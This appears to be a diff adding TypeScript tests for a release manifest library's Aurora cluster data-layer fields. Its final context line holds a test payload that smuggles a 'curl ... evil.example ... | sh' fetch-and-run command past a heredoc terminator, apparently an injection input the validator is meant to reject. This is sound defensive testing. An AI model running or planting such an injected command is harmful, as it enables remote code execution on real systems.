@@ -99,6 +99,46 @@ describe('release manifest', () => {
   });
 });
 
+describe("the data layer's kind and copy (Aurora)", () => {
+  const cluster = {
+    ...valid,
+    data: {
+      ...valid.data!,
+      from: 'copy-on-write:2026-11-28T23:55:00.000Z',
+      kind: 'cluster' as const,
+      cluster: 'prod-api-b000042',
+      copy: 'copy-on-write' as const,
+    },
+  };
+
+  it('round-trips a cluster data layer copied copy-on-write', () => {
+    const json = writeManifest(cluster);
+    expect(readManifest(json).data).toEqual(cluster.data);
+    expect(json.indexOf('"changelog"')).toBeLessThan(json.indexOf('"kind"'));
+  });
+
+  it('still reads a data layer without kind, cluster or copy (older manifests)', () => {
+    expect(readManifest(writeManifest(valid)).data).toEqual(valid.data);
+    expect(writeManifest(valid)).not.toContain('"kind"');
+  });
+
+  it('refuses a cluster without its identifier, a cluster on an instance, and copy-on-write of an instance', () => {
+    const { cluster: _c, ...noId } = cluster.data;
+    expect(() => validateManifest({ ...valid, data: noId })).toThrow(
+      /data\.cluster: is required when kind is 'cluster'/,
+    );
+    expect(() =>
+      validateManifest({ ...valid, data: { ...valid.data, kind: 'instance', cluster: 'x-y-z' } }),
+    ).toThrow(/data\.cluster: is only for kind 'cluster'/);
+    expect(() => validateManifest({ ...valid, data: { ...valid.data, copy: 'copy-on-write' } })).toThrow(
+      /data\.copy: copy-on-write is only for an Aurora cluster/,
+    );
+    expect(() => validateManifest({ ...valid, data: { ...valid.data, kind: 'shard' } })).toThrow(
+      /data\.kind/,
+    );
+  });
+});
+
 describe('typed manifest fields (issue 16, finding 3)', () => {
   const payload = 'db.internal.example\nIMMUT_ENV_END\ncurl -s https://evil.example/x | sh';
 
